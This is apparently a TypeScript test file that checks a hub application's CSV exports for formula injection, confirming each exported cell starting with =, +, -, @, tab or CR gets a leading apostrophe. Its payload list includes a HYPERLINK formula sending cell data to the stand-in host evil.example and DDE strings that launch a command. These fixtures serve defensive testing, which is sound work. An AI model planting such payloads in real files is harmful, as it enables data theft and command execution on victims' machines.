import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvLine, guardFormula } from '../../src/shared/stats/csv.ts';
import { nationalCsvHeader, nationalCsvLine } from '../../src/shared/venues/export.ts';
import { VENUE_COLUMNS } from '../../src/shared/venues/fields.ts';
import type { Venue } from '../../src/shared/venues/schema.ts';
import { DIALECTS } from '../helpers/db.ts';
import { givenHub, givenStaff, givenStructure, type StaffSession, type TestHub } from '../helpers/hub.ts';
import type { Structure } from '../../src/hub/repositories/structures.ts';
import { anActivity, givenEnrolledDevice, pushResults } from './sync-helpers.ts';
import { aPlace, importText } from './venues-helpers.ts';

// Issue #12: every CSV the hub writes goes through one formula guard (guardFormula in
// src/shared/stats/csv.ts): a cell starting with =, +, -, @, a tab or a carriage return gets a
// leading apostrophe, so a spreadsheet shows it as text instead of running it. One test per CSV
// route: the activity export (Kariole and national layouts) and the venue directory export.
// (Import reports are JSON; the hub writes no other CSV.)

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '\t=1+1 tab',
  '\r=1+1 cr',
];

function cells(body: string, delimiter: string): string[][] {
  const text = body.startsWith('\uFEFF') ? body.slice(1) : body;
  const parsed = Papa.parse<string[]>(text, { delimiter, newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/**
 * Every payload appears guarded, and no cell of the file would run as a formula. (The hub trims
 * the texts it receives, so a leading tab or CR arrives as the formula behind it; the writers
 * themselves are checked with a raw tab and CR below.)
 */
function expectGuarded(rows: string[][]): void {
  const all = rows.flat();
  for (const p of PAYLOADS) expect(all, JSON.stringify(p)).toContain(`'${p.trim()}`);
  const runnable = all.filter((c) => guardFormula(c) !== c);
  expect(runnable).toEqual([]);
}

describe.each(DIALECTS)('formula guard on every CSV on %s', (dialect) => {
  let hub: TestHub;
  let structure: Structure;
  let admin: StaffSession;

  beforeAll(async () => {
    hub = await givenHub(dialect);
    structure = await givenStructure(hub, 'Espace Sud', ['13']);
    admin = await givenStaff(hub, 'admin');
  });
  afterAll(async () => hub?.close());

  it('activity export, Kariole and national layouts: formula-like workshop titles are text', async () => {
    const tablet = await givenEnrolledDevice(hub, structure, { ip: '10.0.9.1' });
    const results = await pushResults(
      hub,
      tablet,
      PAYLOADS.map((title) =>
        anActivity({
          type: 'collectif',
          autonomy: undefined,
          workshop: { title, level: 'debutant' },
          beneficiaries: { total: 1, alreadyAccompanied: 0, genre: {}, ageBand: {}, status: {} },
        }),
      ),
    );
    expect(results.map((r) => r.status)).toEqual(PAYLOADS.map(() => 'created'));
    for (const layout of ['kariole', 'national']) {
      const res = await hub.app.inject({ method: 'GET', url: `/api/v1/exports/activities.csv?layout=${layout}`, headers: { cookie: admin.cookie } });
      expect(res.statusCode).toBe(200);
      expectGuarded(cells(res.body, ';'));
    }
  });

  it('venue directory export: formula-like names, addresses and descriptions are text', async () => {
    const places = PAYLOADS.map((p, i) => aPlace({ id: `csv-guard-${i}`, nom: `Lieu ${i}`, adresse: p.replace(/^[\t\r]/, ''), presentation_resume: p }));
    const report = await importText(hub, JSON.stringify(places));
    expect(report).toMatchObject({ imported: PAYLOADS.length });
    const res = await hub.app.inject({ method: 'GET', url: `/api/v1/admin/venues/export.csv?structureId=${structure.id}`, headers: { cookie: admin.cookie } });
    expect(res.statusCode).toBe(200);
    expectGuarded(cells(res.body, ','));
  });

  it('each CSV writer guards a raw leading tab and carriage return too', () => {
    for (const p of PAYLOADS) {
      expect(csvLine(['a', p])).toBe(`a;${csvCell(p)}\r\n`);
      expect(csvCell(p).replace(/^"/, '').startsWith(`'`)).toBe(true);
      const line = nationalCsvLine({ nom: p } as unknown as Venue);
      expect(cells(nationalCsvHeader() + line, ',')[1]![VENUE_COLUMNS.indexOf('nom')]).toBe(`'${p}`);
    }
  });

  it('keeps phone numbers and negative numbers readable (nothing to run in them)', () => {
    expect(guardFormula('+33 4 91 00 00 00')).toBe('+33 4 91 00 00 00');
    expect(guardFormula('-12.5')).toBe('-12.5');
    for (const p of PAYLOADS) expect(guardFormula(p)).toBe(`'${p}`);
  });
});
